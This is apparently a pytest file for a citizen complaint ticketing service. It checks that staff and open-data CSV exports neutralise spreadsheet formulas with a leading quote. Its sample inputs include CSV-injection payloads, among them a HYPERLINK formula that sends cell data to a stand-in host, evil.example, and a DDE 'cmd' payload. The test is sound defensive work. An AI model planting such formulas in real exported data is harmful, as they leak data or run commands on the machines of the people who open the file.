"""Issue 13 item 4: no cell of a CSV the service writes is a live spreadsheet formula.

Citizens write the descriptions, names and addresses; officers write the public notes. Any of
them starting with `= + - @`, a tab or a carriage return is written with OWASP's leading quote.
"""

from __future__ import annotations

import csv
import io

import pytest

from tests.support.tickets import bearer

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
)


@pytest.fixture
def hostile_tickets(app_ctx, make_user):
    from ticketing.extensions import db
    from ticketing.models import Ticket, User
    from ticketing.services.intake import create_ticket
    from ticketing.services.lifecycle import apply_action

    make_user("csv-operator", "operator")
    operator = db.session.query(User).filter_by(username="csv-operator").one()
    numbers = []
    for formula in FORMULAS:
        ticket = create_ticket(
            channel="web",
            description=formula,
            category_code="jalan-rusak",
            reporter_name=formula,
            address=formula,
            lat=-7.8166123,
            lon=112.0119456,
        ).ticket
        number = ticket.ticket_number
        apply_action(ticket, operator, "dispose", opd="PUPR")
        ticket = db.session.query(Ticket).filter_by(ticket_number=number).one()
        apply_action(ticket, operator, "comment", note=formula, public=True)
        numbers.append(number)
    return numbers


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_staff_csv_neutralises_formulas(http, token_for, hostile_tickets):
    response = http.get("/api/v1/tickets.csv", headers=bearer(token_for("operator")))
    assert response.status_code == 200
    rows = _rows(response.text)
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for column in ("description", "reporter_name", "address"):
            assert row[column].startswith("'") and row[column][1:] in FORMULAS, (column, row[column])
        # Numbers stay numbers: a negative latitude is not text to neutralise.
        assert row["lat"] == "-7.8166123"


def test_open_data_csv_neutralises_formulas(http, hostile_tickets):
    response = http.get("/open-data/tickets.csv")
    assert response.status_code == 200
    rows = _rows(response.text)
    assert len(rows) == len(FORMULAS)
    for row in rows:
        # Open data folds whitespace in notes ("\t=1+1" is "=1+1" there): still quoted.
        note = row["public_notes"]
        assert note.startswith("'") and note[1:] in {" ".join(f.split()) for f in FORMULAS}, note
        assert row["lat"] == "-7.817"


def test_neutralise_formula_is_the_owasp_rule():
    from ticketing.csv_safety import neutralise_formula

    for formula in FORMULAS:
        assert neutralise_formula(formula) == "'" + formula
    for harmless in (
        "Jalan berlubang",
        "",
        "'=already quoted",
        "a=b",
        None,
        -7.8,
        3,
        True,
        "+6281234567890",
        "-7.8166",
    ):
        assert neutralise_formula(harmless) == harmless
